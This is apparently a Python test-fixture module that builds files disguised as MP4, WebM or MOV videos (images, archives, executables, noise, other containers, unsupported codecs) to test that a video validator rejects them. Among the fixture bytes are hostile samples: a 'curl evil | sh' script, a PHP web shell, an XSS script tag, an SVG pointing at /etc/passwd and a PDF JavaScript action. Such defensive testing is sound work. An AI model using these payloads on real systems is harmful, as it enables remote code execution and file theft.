"""Files of another kind that call themselves a video."""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from .boxes import box, webm
from .made import Bases, Hostile

OTHER_FILES = {
    "png": b"\x89PNG\r\n\x1a\n" + bytes(200),
    "gif": b"GIF89a\x40\x00\x40\x00\xf7" + bytes(200),
    "bmp": b"BM" + struct.pack("<IHHI", 300, 0, 0, 54) + bytes(290),
    "webp": b"RIFF\x80\x00\x00\x00WEBPVP8 " + bytes(120),
    "tiff": b"II*\x00\x08\x00\x00\x00" + bytes(200),
    "photoshop": b"8BPS\x00\x01" + bytes(200),
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>endobj\n%%EOF",
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(200),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(200),
    "gzip": gzip.compress(bytes(4000), mtime=0),
    "xz": b"\xfd7zXZ\x00" + bytes(200),
    "tar": b"a.txt".ljust(257, b"\0") + b"ustar\0" + bytes(249),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
    "windows-program": b"MZ\x90\x00" + bytes(200),
    "apple-program": b"\xcf\xfa\xed\xfe" + bytes(200),
    "java-class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100),
    "old-word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "sqlite": b"SQLite format 3\0" + bytes(200),
    "shell": b"#!/bin/sh\ncurl evil | sh\n",
    "page": b"<!DOCTYPE html><script>alert(1)</script>",
    "drawing": b"<svg xmlns='http://www.w3.org/2000/svg'><image href='/etc/passwd'/></svg>",
    "php": b"<?php system($_GET['c']);",
    "json": b'{"a": [' * 500,
    "letter": b"Dear aunt, here is my video.\n" * 40,
    "subtitles": b"WEBVTT\n\n00:00.000 --> 00:01.000\nhi\n",
    "metadata-sheet": b";FFMETADATA1\ntitle=x\n",
    "zeroes": bytes(5000),
    "ones": b"\xff" * 5000,
    "one-byte": b"\0",
    "seven-bytes": b"\0\0\0\x20fty",
    "raw-h264": b"\0\0\0\1\x67\x42\xc0\x1e" + bytes(200),
    "heic": box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", bytes(20)),
    "avif": box(b"ftyp", b"avif\0\0\0\0mif1avif") + box(b"meta", bytes(20)),
    "only-a-type": box(b"ftyp", b"isom\0\0\2\0isomiso2"),
    "ebml-of-another-kind": webm(doc_type=b"letters"),
}
REAL_OTHERS = (
    "avi", "flv", "asf", "mpg", "ts", "ogv", "rm", "mxf", "nut", "swf", "ivf", "y4m",
)  # fmt: skip
ENCODED_FOR = {
    "ogv": ("-c:v", "libtheora"),
    "swf": ("-c:v", "flv"),
    "mxf": ("-c:v", "mpeg2video", "-r", "25"),
    "mpg": ("-r", "25"),
    "ivf": ("-c:v", "libvpx"),
    "y4m": ("-f", "yuv4mpegpipe"),
}
# Picture codecs that an MP4, MOV or Matroska may carry and our ffmpeg is not allowed to open.
CODECS = {
    "raw.mov": ("-c:v", "rawvideo", "-pix_fmt", "uyvy422"),
    "animation.mov": ("-c:v", "qtrle"),
    "cinepak.mov": ("-c:v", "cinepak"),
    "sorenson.mov": ("-c:v", "svq1", "-pix_fmt", "yuv410p"),
    "png.mov": ("-c:v", "png"),
    "ffv1.mkv": ("-c:v", "ffv1"),
    "theora.mkv": ("-c:v", "libtheora"),
    "screen.mkv": ("-c:v", "zmbv"),
    "wmv.mkv": ("-c:v", "wmv2"),
    "mpeg2.mp4": ("-c:v", "mpeg2video", "-r", "25"),
    "jpeg2000.mp4": ("-c:v", "jpeg2000"),
}


def wrong_kinds(bases: Bases) -> Iterator[Hostile]:
    for name, content in OTHER_FILES.items():
        yield Hostile("kind", f"{name}.mp4", "not_a_video", content)
    for seed in range(5):
        noise = random.Random(seed).randbytes(3000)
        yield Hostile("kind", f"noise-{seed}.webm", "not_a_video", noise)
    yield Hostile("kind", "zip.mp4", "not_a_video", a_zip())
    yield Hostile("kind", "jpeg.mp4", "not_a_video", bases.picture)
    for suffix in REAL_OTHERS:
        content = bases.made(f"other.{suffix}", *ENCODED_FOR.get(suffix, ()), sound=None)
        yield Hostile("kind", f"{suffix}.mp4", "unsupported_format", content)
    for name, options in CODECS.items():
        content = bases.made(f"codec-{name}", *options, sound=None)
        yield Hostile("kind", f"codec-{name}", "unsupported_format", content)

    sound = bases.made("alone.opus", "-c:a", "libopus", picture=None)
    yield Hostile("kind", "opus.mp4", "unsupported_format", sound)
    packed = (
        box(b"dcom", b"zlib"),
        box(b"cmvd", struct.pack(">I", 2**31), zlib.compress(bytes(999))),
    )
    index = box(b"moov", box(b"cmov", *packed))
    yield Hostile("kind", "packed-index.mov", "unsupported_format", index + box(b"mdat", bytes(9)))


def a_zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(zipfile.ZipInfo("a.txt"), "hi")
    return packed.getvalue()
